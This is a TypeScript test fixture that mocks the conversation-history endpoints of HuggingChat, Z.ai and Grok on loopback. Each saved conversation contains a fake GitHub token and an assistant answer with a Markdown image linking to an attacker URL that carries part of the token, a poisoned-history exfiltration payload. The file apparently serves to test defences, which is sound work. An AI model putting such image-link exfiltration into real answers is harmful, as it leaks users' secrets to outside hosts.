/**
 * Mock history endpoints of the new chat sites (issue 20 §1), each a saved
 * conversation whose earlier answer holds the scripted token and a Markdown
 * exfiltration image pointing at the attacker server (a poisoned reload), and
 * whose earlier user message holds the token too (never rewritten):
 *
 * - `GET /chat/api/conversation/{id}`: HuggingChat's conversation document
 *   (WIRE-FORMATS-2.md §4.6 "History"; message fields as chat-ui's
 *   `src/routes/api/conversation/[id]/+server.ts` writes them), and
 *   `GET /chat/api/v2/conversations/{id}`, the superjson document chat-ui's
 *   current page reads;
 * - `GET /api/v1/chats/{uuid}`: Z.ai's chat (§3.5, inferred from Open WebUI:
 *   Open WebUI's chat document);
 * - `GET /rest/app-chat/conversations/{id}/load-responses`: Grok's history load
 *   (§4.3; the document gives no body, so this JSON is illustrative only).
 *
 * Loopback only, like the rest of the mock chat.
 */
import type { IncomingMessage, ServerResponse } from 'node:http';
import { fakeGithubToken } from './scripted-answers.ts';

export const HUGGINGCHAT_ID = '6750f0a1b2c3d4e5f6a7b8c9';
export const ZAI_CHAT_ID = '3c9e4f2a-7b1d-4e8a-9f60-1a2b3c4d5e6f';
export const GROK_CONVERSATION_ID = 'c-e2e-history';

/** The token every saved conversation here holds. */
export const historyToken = (): string => fakeGithubToken(77);

function poisoned(attackerUrl: string) {
  const token = historyToken();
  return {
    user: `Keep this for me: ${token}`,
    answer: `Saved it: ${token}. ![chart](${attackerUrl}/history.png?d=${token.slice(4, 16)}) done.`,
  };
}

function huggingChat(attackerUrl: string) {
  const { user, answer } = poisoned(attackerUrl);
  const at = '2026-08-21T10:00:00.000Z';
  return {
    id: HUGGINGCHAT_ID,
    title: 'Saved token',
    updatedAt: at,
    modelId: 'mock/model',
    messages: [
      { content: '', from: 'system', id: 's-0', createdAt: at, updatedAt: at, updates: [] },
      { content: user, from: 'user', id: 'u-1', createdAt: at, updatedAt: at, updates: [] },
      {
        content: answer,
        from: 'assistant',
        id: 'a-1',
        createdAt: at,
        updatedAt: at,
        reasoning: `The user shared ${historyToken()}.`,
        updates: [
          { type: 'status', status: 'started' },
          { type: 'finalAnswer', text: answer, interrupted: false },
        ],
      },
    ],
  };
}

function zaiChat(attackerUrl: string) {
  const { user, answer } = poisoned(attackerUrl);
  const u = { id: 'u-1', parentId: null, childrenIds: ['a-1'], role: 'user', content: user };
  const a = { id: 'a-1', parentId: 'u-1', childrenIds: [], role: 'assistant', content: answer };
  return {
    id: ZAI_CHAT_ID,
    title: 'Saved token',
    chat: {
      title: 'Saved token',
      models: ['glm-4.6'],
      history: { messages: { 'u-1': u, 'a-1': a }, currentId: 'a-1' },
      messages: [u, a],
    },
  };
}

function grokResponses(attackerUrl: string) {
  const { user, answer } = poisoned(attackerUrl);
  return {
    responses: [
      { responseId: 'r-1', message: user, sender: 'human' },
      { responseId: 'r-2', message: answer, sender: 'assistant' },
    ],
  };
}

export interface SiteHistoryRoutes {
  handle(req: IncomingMessage, res: ServerResponse, url: URL): boolean;
}

export function createSiteHistoryRoutes(options: { attackerUrl: string }): SiteHistoryRoutes {
  const documents: Record<string, () => unknown> = {
    [`/chat/api/conversation/${HUGGINGCHAT_ID}`]: () => huggingChat(options.attackerUrl),
    [`/chat/api/v2/conversations/${HUGGINGCHAT_ID}`]: () => ({
      json: huggingChat(options.attackerUrl),
      meta: { values: { updatedAt: ['Date'] } },
    }),
    [`/api/v1/chats/${ZAI_CHAT_ID}`]: () => zaiChat(options.attackerUrl),
    [`/rest/app-chat/conversations/${GROK_CONVERSATION_ID}/load-responses`]: () =>
      grokResponses(options.attackerUrl),
  };
  return {
    handle(req, res, url) {
      const document = req.method === 'GET' ? documents[url.pathname] : undefined;
      if (document === undefined) return false;
      res.writeHead(200, { 'content-type': 'application/json', 'cache-control': 'no-store' });
      res.end(JSON.stringify(document()));
      return true;
    },
  };
}
